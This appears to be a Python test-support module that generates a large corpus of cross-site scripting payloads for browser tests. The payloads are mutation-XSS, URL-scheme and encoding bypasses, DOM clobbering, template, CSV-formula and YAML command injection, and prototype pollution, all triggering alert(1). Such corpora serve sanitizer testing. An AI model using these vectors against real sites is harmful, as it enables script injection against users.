"""A thousand ways to make a page run what an author wrote, made from the classes that are known: every tag that acts with
every way to write it, foreign namespaces, what parsers mend into something else, addresses, entities, signs of Unicode.
"""

from __future__ import annotations

import html
from collections.abc import Iterator
from itertools import product

from tests.browser.payload_lists import CLOBBERING, EVENTS, FETCHED, LETTERS, MARKDOWN, MUTATED

RUN = "alert(1)"
HANDLERS = (
    "<{} src=x onerror={}>|img image input video audio embed",
    "<{} onload={}>|body svg iframe object style link",
    "<{} autofocus tabindex=1 onfocus={}>|input select textarea button keygen a div marquee custom-tag",
    "<{} onmouseover={} style=position:fixed;inset:0>|a b p div table td font center blink nobr xmp plaintext",
    "<{} onanimationstart={} ontransitionend={} class=play>|section article details dialog slot",
    "<{} open ontoggle={} onbeforetoggle={} popover>|details dialog div",
    "<{} onbegin={} onend={} onrepeat={} dur=1s attributeName=x>|animate set animateTransform animateMotion",
    "<{} onscrollend={} onpointerrawupdate={} onwheel={} oncontentvisibilityautostatechange={}>|div ul pre",
    "<{} oncuechange={} onloadstart={} oncanplay={}><source src=x>|video audio track",
    "<{} onpageshow={} onhashchange={} onmessage={} onunload={}>|body frameset",
    "<{} onresize={} onscroll={} onselectstart={} oncopy={}>|body div p",
)
WRITTEN = (
    lambda tag: tag,
    str.upper,
    lambda tag: tag.replace(" ", "/"),
    lambda tag: tag.replace(" ", "\n"),
    lambda tag: tag.replace(" ", "\t"),
    lambda tag: tag.replace(" ", "\x0c"),
    lambda tag: tag.replace("=", " = "),
    lambda tag: tag.replace(RUN, f'"{RUN}"'),
    lambda tag: tag.replace(RUN, f"'{RUN}'"),
    lambda tag: tag.replace(RUN, f"`{RUN}`"),
    lambda tag: tag.replace(RUN, "&#97;lert&lpar;1&rpar;"),
    lambda tag: tag.replace(RUN, "\\u0061lert(1)"),
    lambda tag: tag.removesuffix(">"),
    lambda tag: f"<{tag}>",
    lambda tag: f'">{tag}',
    lambda tag: f"'>{tag}",
    lambda tag: f"--!>{tag}",
    lambda tag: f"]]>{tag}",
    lambda tag: f"</title></textarea></style></script></noscript></template>{tag}",
    lambda tag: f"</p></li></td></table>{tag}",
    lambda tag: f"`{tag}",
    lambda tag: f"**{tag}**",
    lambda tag: f"[{tag}]({tag})",
    lambda tag: f"![{tag}](x '{tag}')",
    lambda tag: f"> - 1. {tag}",
    lambda tag: f"\\{tag}",
    lambda tag: f"\u2028{tag}",
    lambda tag: f"\x85{tag}",
    lambda tag: f"{tag[:2]}\u00ad{tag[2:]}",
    html.escape,
    lambda tag: html.escape(html.escape(tag)),
    lambda tag: "".join(f"&#{ord(sign)};" for sign in tag[:40]),
    lambda tag: "".join(f"&#x{ord(sign):x}" for sign in tag[:40]),
    lambda tag: tag.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda tag: tag.replace("<", "\u02c2").replace(">", "\u02c3"),
    lambda tag: tag.replace("<", "%3C").replace(">", "%3E"),
    lambda tag: tag.replace("<", "\\x3c").replace(">", "\\x3e"),
    lambda tag: tag.replace("<", "+ADw-").replace(">", "+AD4-"),
)
FOREIGN = (
    "<svg><script>{}</script></svg>",
    "<svg><script href=data:,{} />",
    "<svg><a xlink:href=javascript:{}><text y=20>点</text></a></svg>",
    "<svg><animate xlink:href=#a attributeName=href values=javascript:{} /><a id=a><text>点</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{}</script></svg>#x'>",
    "<svg><foreignObject><iframe srcdoc='<script>{}</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror={}></style></svg>",
    "<svg></p><style><a id='</style><img src=x onerror={}>'>",
    "<math><mi//xlink:href='data:x,<script>{}</script>'>",
    "<math href=javascript:{}>点</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={}></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={}&gt;'>",
    "<math><mtext><mglyph><style><math><img src=x onerror={}></style>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<noembed><noframes><xmp></noembed><img src=x onerror={}>",
    "<select><template><img src=x onerror={}></template></select>",
    "<table><caption><svg><desc><table><caption></svg></desc><style><a title='</style><img src onerror={}>'>",
    "<a id=x><table><a><img src=x onerror={}>",
    "<textarea><img title='</textarea><img src=x onerror={}>'>",
    "<title><a title='</title><script>{}</script>'>",
    "<style>@import 'javascript:{}';</style>",
    "<p style=background:url(javascript:{})>",
    "<p style=behavior:url(x.htc);width:expression({})>",
    "<link rel=import href='data:text/html,<script>{}</script>'>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<object data='data:text/html,<script>{}</script>'></object>",
    "<object><param name=code value='javascript:{}'></object>",
    "<iframe src='data:text/html,<script>parent.{}</script>'>",
    "<iframe srcdoc='&lt;script&gt;parent.{}&lt;/script&gt;'>",
    "<form><button formaction=javascript:{}>点",
    "<isindex type=image src=1 onerror={}>",
    "<portal src=javascript:{}>",
    "<template shadowrootmode=open><img src=x onerror={}></template>",
    "<script src=data:,{}></script>",
    "<script>{}//</script",
    "<script/x>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<!--[if gte IE 4]><script>{}</script><![endif]-->",
    "<!doctype x [<!entity y '<img src=x onerror={}>'>]>&y;",
    "<?xml-stylesheet href='javascript:{}'?>",
    "<%<!--'%><script>{}</script -->",
    "<![><img src=x onerror={}>",
    "<div id=x><!-- --!><img src=x onerror={}> --></div>",
    "<img name=getElementById><form name=body id=cookie><input name=attributes onfocus={} autofocus>",
)
SCHEMES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "java&#10;script:{}",
    "javascript&colon;{}",
    "javascript&#58{}",
    "&#x6A;avascript:{}",
    "%6Aavascript:{}",
    "javascript://%0a{}",
    "javascript:void({})//https://a.example",
    "data:text/html,<script>{}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload={}>",
    "vbscript:{}",
    "livescript:{}",
    "view-source:javascript:{}",
    "feed:javascript:{}",
    "blob:{}",
    "filesystem:{}",
    "\x19javascript:{}",
    "\u3000javascript:{}",
    "java\x00script:{}",
    "java\rscript:{}",
    "javascript\t:{}",
    "&Tab;java&NewLine;script&colon;{}",
    "&#1;&#x6A&#x61&#118ascript:{}",
    "javascript\uff1a{}",
    "jаvascript:{}",
    "data:;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html;charset=utf-7,+ADw-script+AD4-{}",
    "data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{}</x:script>",
    "https://e.invalid/?x=javascript:{}",
    "ws://evil.example/{}",
    "intent://evil.example/{}#Intent;scheme=javascript;end",
    "weixin://dl/{}",
    "//evil.example/{}",
    "\\\\evil.example\\{}",
)
PLACES = (
    "[点]({})",
    "[点](<{}>)",
    "![图]({})",
    "<{}>",
    '[点](x "{}")',
    "[点][a]\n\n[a]: {}",
    "<a href='{}'>点</a>",
    "<a href={}>点",
    "<iframe src='{}'>",
    "<img src='{}'>",
    "{}",
)
SIGNS = (
    "{{{{constructor.constructor('{}')()}}}}",
    "{{% import os %}}{{{{ {} }}}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "';{};//",
    '";{};//',
    "\\';{};//",
    "</script><script>{}",
    "*/{}/*",
    "\u202e>)1(trela=rorreno x=crs gmi<{}",
    "=cmd|' /C {}'!A0",
    "@SUM(1+1)*{}",
    "+{}",
    "-{}",
    "!!python/object/apply:os.system ['{}']",
    "&a [*a, {}]",
    "? {} : - |",
    "__proto__[x]={}",
    '{{"__proto__": {{"x": "{}"}}}}',
    "-->\n\n00:00.000 --> 99:00.000\n<v.x onclick={}>",
    "\ufeff<img src=x onerror={}>",
    "<img src=x onerror={}>\u0000",
    "\ud800<svg onload={}>".encode("utf-8", "replace").decode(),
)


def _handlers() -> Iterator[str]:
    for pattern in HANDLERS:
        written, _, tags = pattern.partition("|")
        for place, tag in enumerate(tags.split()):
            whole = written.replace("{}", tag, 1).replace("{}", RUN)
            yield whole
            yield WRITTEN[1 + place % (len(WRITTEN) - 1)](whole)


def _obfuscated() -> Iterator[str]:
    for tag in ("<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<script>alert(1)</script>"):
        yield from (write(tag) for write in WRITTEN)


def _named() -> Iterator[str]:
    """Elements that take the place of what scripts ask for by name."""
    for name in CLOBBERING.split():
        yield f"<a id={name}><a id={name} name=url href=data:,{RUN}>"
        yield f"<form name={name}><output id={name}>{RUN}</output><input name=action></form>"
        yield f"## {name}\n\n[点](#{name})<img name={name} src=x onerror={RUN}>"


def corpus() -> list[str]:
    """All of them, each once."""
    links = (place.format(scheme.format(RUN)) for scheme, place in product(SCHEMES, PLACES))
    patterns = (*FOREIGN, *SIGNS, *MUTATED, *FETCHED, *MARKDOWN, *LETTERS)
    others = (pattern.replace("{}", RUN).replace("{{", "{").replace("}}", "}") for pattern in patterns)
    events = (f"<b on{name}={RUN} tabindex=1 contenteditable>点</b>" for name in EVENTS.split())
    return list(dict.fromkeys([*_handlers(), *_obfuscated(), *others, *_named(), *events, *links]))
